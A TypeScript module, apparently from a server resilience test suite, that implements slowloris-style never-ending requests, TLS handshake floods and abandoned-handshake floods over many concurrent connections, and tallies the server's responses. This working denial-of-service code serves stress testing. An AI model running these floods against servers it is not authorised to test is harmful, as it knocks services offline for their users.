import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import { connect as connectTls } from 'node:tls';
import { readClientHello } from '../support/client-hello.ts';
import { createTally } from './client.ts';
import type { Answers, Attack } from './messages.ts';

/** The time between two bytes of a request that never ends. */
const BYTE_EVERY_MS = 2_000;
/** The start of a request that never ends. */
const ENDLESS = 'POST /waas/streams HTTP/1.1\r\nHost: x\r\nX-A: ';

/** Uses a connection until it is closed, and returns the response. `none` means that there was no response. */
type Use = (socket: Socket) => Promise<string>;

const untilClosed = (socket: Socket) => new Promise<void>(resolve => socket.once('close', () => resolve()));

/** Sends a request that never ends, one byte at a time. */
const sendSlowly: Use = async socket => {
  let text = '';
  socket.on('data', chunk => (text += String(chunk)));
  socket.write(ENDLESS);
  const timer = setInterval(() => socket.write('a'), BYTE_EVERY_MS);
  await untilClosed(socket);
  clearInterval(timer);
  return /^HTTP\/1\.1 (\d{3}) /.exec(text)?.[1] ?? 'none';
};

/** Leaves as soon as the handshake is complete. */
const finishHandshake: Use = async socket => {
  const secured = connectTls({ socket, rejectUnauthorized: false }).on('error', () => {});
  const isSecure = await Promise.race([
    once(secured, 'secureConnect').then(() => true),
    untilClosed(socket).then(() => false),
  ]).catch(() => false);
  secured.destroy();
  // Otherwise, the ports of these connections could not be used again for a minute.
  socket.resetAndDestroy();
  return isSecure ? 'handshake' : 'none';
};

/** Sends the first message of a handshake, and leaves when the server has responded. */
async function abandonHandshake(): Promise<Use> {
  const hello = await readClientHello();
  return async socket => {
    socket.write(hello);
    const hasAnswer = await Promise.race([
      once(socket, 'data').then(() => true),
      untilClosed(socket).then(() => false),
    ]).catch(() => false);
    socket.resetAndDestroy();
    return hasAnswer ? 'half a handshake' : 'none';
  };
}

/** Keeps a number of connections in use, and replaces each of them as soon as it is closed. */
export async function floodConnections({ url, manner, connections, forMs }: Attack): Promise<Answers> {
  const { hostname, port } = new URL(url);
  const use = manner === 'slow' ? sendSlowly : manner === 'handshakes' ? finishHandshake : await abandonHandshake();
  const tally = createTally();
  const open = new Set<Socket>();
  let isOver = false;
  const work = async () => {
    while (!isOver) {
      const socket = connect(Number(port), hostname).on('error', () => {});
      open.add(socket);
      const answer = await use(socket);
      open.delete(socket);
      if (!isOver) tally.add(answer);
    }
  };
  const workers = Array.from({ length: connections }, work);
  await delay(forMs);
  isOver = true;
  for (const socket of open) socket.destroy();
  await Promise.all(workers);
  return tally.answers;
}
